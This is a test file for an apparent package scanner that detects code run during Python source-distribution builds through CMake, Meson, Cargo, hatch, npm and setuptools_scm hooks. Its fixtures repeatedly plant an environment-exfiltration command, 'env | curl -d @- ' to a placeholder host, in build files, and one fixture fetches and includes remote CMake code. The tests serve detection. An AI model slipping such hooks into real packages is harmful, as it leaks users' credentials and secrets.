import t from 'tap'
import { cmakeAsShell } from '../../src/analysis/builds/cmake.ts'
import { mesonAsShell } from '../../src/analysis/builds/meson.ts'
import { rustAsShell } from '../../src/analysis/builds/rust.ts'
import { summariseShell } from '../../src/analysis/shell/summarise.ts'
import { seenFlows } from '../../src/checks/seen-flows.ts'
import { buildCodeIndex } from '../../src/inspection/code-index.ts'
import { readingOf } from './python-reading.ts'

const SEND = 'env | curl -s -d @- https://c.invalid/x'

const CMAKE: readonly [situation: string, text: string, commands: string][] = [
  ['a process', 'execute_process(COMMAND git describe --tags OUTPUT_VARIABLE V)', 'git describe --tags'],
  ['processes that are tied together', 'execute_process(COMMAND a b\n  COMMAND sh)', 'a b | sh'],
  ['a step of the build', 'add_custom_command(OUTPUT x COMMAND a COMMAND b | sh VERBATIM)', 'a; b | sh'],
  ['in other letters, and brackets', 'EXECUTE_PROCESS( COMMAND sh -c [=[a | b]=] )', "sh -c 'a | b'"],
  ['variables', 'set(C "a b")\nexecute_process(COMMAND sh -c "${C}")', "\nsh -c 'a b'"],
  ['lists', 'set(C a b)\nlist(APPEND C c)\nexecute_process(COMMAND ${C})', '\n\na b c'],
  [
    'texts that grow',
    'string(APPEND C "a")\nstring(APPEND C " b")\nexecute_process(COMMAND sh -c "${C}")',
    "\n\nsh -c 'a b'",
  ],
  ['the environment', 'execute_process(COMMAND curl -d "$ENV{TOKEN}" x)', `curl -d ''"\${TOKEN}"'' x`],
  [
    'what CMake finds',
    'execute_process(COMMAND ${Python3_EXECUTABLE} ${CMAKE_SOURCE_DIR}/x.py ${MORE})',
    'python ./x.py unknown',
  ],
  [
    'what is in a remark',
    '# execute_process(COMMAND a)\n#[[ execute_process(COMMAND b) ]]\nmessage("execute_process(COMMAND c)")',
    '',
  ],
  ['code that is run when it is installed', 'install(CODE "execute_process(COMMAND sh -c \\"a\\")")', 'sh -c a'],
  ['code that is run at once', 'cmake_language(EVAL CODE "execute_process(COMMAND a)")', 'a'],
  ['a file of another one', 'include(cmake/x.cmake)\nadd_subdirectory(src)', 'cmake -P cmake/x.cmake\ncmake -S src'],
  [
    'a project from outside',
    'ExternalProject_Add(x URL y CONFIGURE_COMMAND sh -c "a" BUILD_COMMAND "")',
    "sh -c a; ''",
  ],
  [
    'what is fetched as it comes, and read',
    'file(DOWNLOAD https://c.invalid/x /b/x.cmake)\ninclude(/b/x.cmake)',
    '\ncurl -o /b/x.cmake https://c.invalid/x; sh /b/x.cmake',
  ],
  ['what is fetched, and only lies there', 'file(DOWNLOAD https://c.invalid/x /b/x)', ''],
  ['what must be what it is said to be', 'file(DOWNLOAD https://c.invalid/x /b/x EXPECTED_HASH SHA256=00)', ''],
  ['nothing that is ever closed', 'execute_process(COMMAND a "b', 'a b'],
]

const MESON: readonly [situation: string, text: string, commands: string][] = [
  ['a command', "project('x')\nrun_command('git', 'describe', check: true)", '\ngit describe'],
  [
    'one within another call',
    "project('x', version: run_command(['sh', '-c', 'a | b']).stdout().strip())",
    "sh -c 'a | b'",
  ],
  ['names', "sh = find_program('sh')\nc = 'a'\nc += ' b'\nrun_command(sh, '-c', c)", "\n\n\nsh -c a ' b'"],
  [
    'a target',
    "custom_target('x', input: 'x.py', output: 'x.c', command: [py, '@INPUT@', '-o', '@OUTPUT@'])",
    "unknown x.py -o '@OUTPUT@'".replace("'@OUTPUT@'", '@OUTPUT@'),
  ],
  ['Python', "py = import('python').find_installation()\nrun_command(py, files('a' / 'x.py'))", '\npython a/x.py'],
  ['a script at install, and a folder', "meson.add_install_script('x.sh')\nsubdir('src')", 'x.sh\nmeson src'],
  ['a text of many lines', "run_command('sh', '-c', '''a\nb''')", "sh -c 'a\nb'"],
  ['what is run where a source distribution is made', "meson.add_dist_script('sh', 'x')\n# run_command('a')", ''],
]

const RUST: readonly [situation: string, text: string, commands: string][] = [
  ['a program', 'Command::new("git").args(&["a", "b"]).output();', 'git a b'],
  ['one that is told more later', 'let mut c = Command::new("sh");\nc.arg("-c");\nc.arg("a | b");', "sh -c 'a | b'"],
  ['names', 'const S: &str = "sh";\nCommand::new(S).arg("x");', '\nsh x'],
  [
    'what is put together',
    'Command::new(env::var("CC").unwrap()).arg(format!("-I{}", p)).arg(&q);',
    'CC -Iunknown unknown',
  ],
  ['remarks and other texts', '// Command::new("a")\nlet s = r#"Command::new("b")"#;', ''],
  [
    'the environment, and who is told',
    'for v in std::env::vars() {}\nureq::post("https://c.invalid").send_string(&s);',
    '\nenv | curl -d @- unknown',
  ],
]

t.test('what descriptions of builds run is told as a text for a shell', async (t) => {
  for (const [situation, text, commands] of CMAKE) t.equal(cmakeAsShell(text), commands, `CMake: ${situation}`)
  for (const [situation, text, commands] of MESON) t.equal(mesonAsShell(text), commands, `Meson: ${situation}`)
  for (const [situation, text, commands] of RUST) t.equal(rustAsShell(text), commands, `Rust: ${situation}`)
})

t.test('a description that is not read to its end is said to be that', async (t) => {
  const limits: readonly [path: string, text: string, isCut: boolean][] = [
    ['CMakeLists.txt', ' '.repeat(1_000_000), false],
    ['CMakeLists.txt', ' '.repeat(1_000_001), true],
    ['n/meson.build', ' '.repeat(1_000_001), true],
    ['build.rs', ' '.repeat(1_000_001), true],
    ['x.cmake', 'include(A)\n'.repeat(2000), false],
    ['x.cmake', 'include(A)\n'.repeat(2001), true],
    ['x.sh', ' '.repeat(1_000_001), false],
  ]
  for (const [path, text, isCut] of limits)
    t.equal(summariseShell(path, text).incomplete !== undefined, isCut, `${path} of ${text.length}`)
  const many = `${'execute_process(COMMAND a)\n'.repeat(2000)}execute_process(COMMAND sh -c "${SEND}")\n`
  t.equal(summariseShell('CMakeLists.txt', many).flows.length, 1, 'behind many commands')
})

t.test('hostile descriptions take one pass', async (t) => {
  for (const text of [
    'a('.repeat(200_000),
    '[[('.repeat(200_000),
    '"'.repeat(400_000),
    `x = ${'['.repeat(200_000)}`,
    "'''a".repeat(100_000),
  ]) {
    const start = performance.now()
    for (const read of [cmakeAsShell, mesonAsShell, rustAsShell]) read(text)
    t.ok(performance.now() - start < 5000, text.slice(0, 8))
  }
})

type Files = Readonly<Record<string, string>>
const backend = (name: string): string => `[build-system]\nrequires = []\nbuild-backend = "${name}"\n`
const SCIKIT = backend('scikit_build_core.build')
const RS = `fn main() {\n    std::process::Command::new("sh").arg("-c").arg("${SEND}").status();\n}\n`
const CM = `execute_process(COMMAND sh -c "${SEND}")\n`

/** Source distributions whose build sends the environment away. */
const BUILT: readonly [situation: string, files: Files][] = [
  ['CMake', { 'pyproject.toml': SCIKIT, 'CMakeLists.txt': CM }],
  [
    'CMake in the folder that is named',
    { 'pyproject.toml': `${SCIKIT}[tool.scikit-build]\ncmake.source-dir = "n"\n`, 'n/CMakeLists.txt': CM },
  ],
  [
    'CMake by setup.py',
    { 'setup.py': 'from skbuild import setup\nsetup(cmake_source_dir="n")\n', 'n/CMakeLists.txt': CM },
  ],
  ['a module of CMake', { 'pyproject.toml': SCIKIT, 'CMakeLists.txt': 'include(Own)\n', 'cmake/Own.cmake': CM }],
  [
    'a folder of CMake',
    { 'pyproject.toml': SCIKIT, 'CMakeLists.txt': 'add_subdirectory(n)\n', 'n/CMakeLists.txt': CM },
  ],
  ['Meson', { 'pyproject.toml': backend('mesonpy'), 'meson.build': `run_command('sh', '-c', '${SEND}')\n` }],
  [
    'a folder of Meson',
    {
      'pyproject.toml': backend('mesonpy'),
      'meson.build': "subdir('n')\n",
      'n/meson.build': `run_command('sh', '-c', '${SEND}')\n`,
    },
  ],
  [
    'a script that Meson starts',
    { 'pyproject.toml': backend('mesonpy'), 'meson.build': "run_command('n/x')\n", 'n/x': `#!/bin/sh\n${SEND}\n` },
  ],
  ['Cargo', { 'pyproject.toml': backend('maturin'), 'Cargo.toml': '[package]\nname = "x"\n', 'build.rs': RS }],
  [
    'Cargo, by another name',
    { 'pyproject.toml': backend('maturin'), 'n/Cargo.toml': '[package]\nbuild = "b.rs"\n', 'n/b.rs': RS },
  ],
  ['Cargo by setup.py', { 'setup.py': 'import setuptools_rust\n', 'Cargo.toml': '[package]\n', 'build.rs': RS }],
  [
    'what stands in the place of a compiler',
    { 'pyproject.toml': backend('maturin'), '.cargo/config.toml': '[build]\nrustc-wrapper = "./w.sh"\n', 'w.sh': SEND },
  ],
  [
    'a script of hatch',
    {
      'pyproject.toml': `${backend('hatchling.build')}[[tool.hatch.build.hooks.build-scripts.scripts]]\ncommands = ["${SEND}"]\n`,
    },
  ],
  [
    'a file of one',
    {
      'pyproject.toml': `${backend('hatchling.build')}[[tool.hatch.build.targets.wheel.hooks.build-scripts.scripts]]\ncommands = ["sh x"]\n`,
      x: SEND,
    },
  ],
  [
    'a script of npm',
    {
      'pyproject.toml': `${backend('hatchling.build')}[tool.hatch.build.hooks.jupyter-builder]\nbuild-function = "h.npm_builder"\n`,
      'package.json': JSON.stringify({ scripts: { build: SEND } }),
    },
  ],
  [
    'what asks for the version',
    { 'pyproject.toml': `[tool.setuptools_scm]\ngit_describe_command = ["sh", "-c", "${SEND}"]\n` },
  ],
]

const LEFT: readonly [situation: string, files: Files][] = [
  [
    'what no back end reads',
    {
      'pyproject.toml': backend('hatchling.build'),
      'CMakeLists.txt': CM,
      'meson.build': `run_command('sh', '-c', '${SEND}')\n`,
      'build.rs': RS,
      'Cargo.toml': '',
    },
  ],
  [
    'a crate without a build script',
    { 'pyproject.toml': backend('maturin'), 'Cargo.toml': '[package]\nbuild = "b.rs"\n', 'build.rs': RS },
  ],
]

const flowsOf = (files: Files): readonly string[] =>
  seenFlows(buildCodeIndex(readingOf('sdist', files), 'pypi'))
    .filter(({ flow, live }) => live && flow.sink.kind === 'network')
    .map(({ moment }) => moment)

t.test('what a back end has other tools run is code of the build', async (t) => {
  for (const [situation, files] of BUILT) t.same(flowsOf(files), ['build'], situation)
  for (const [situation, files] of LEFT) t.same(flowsOf(files), [], situation)
})
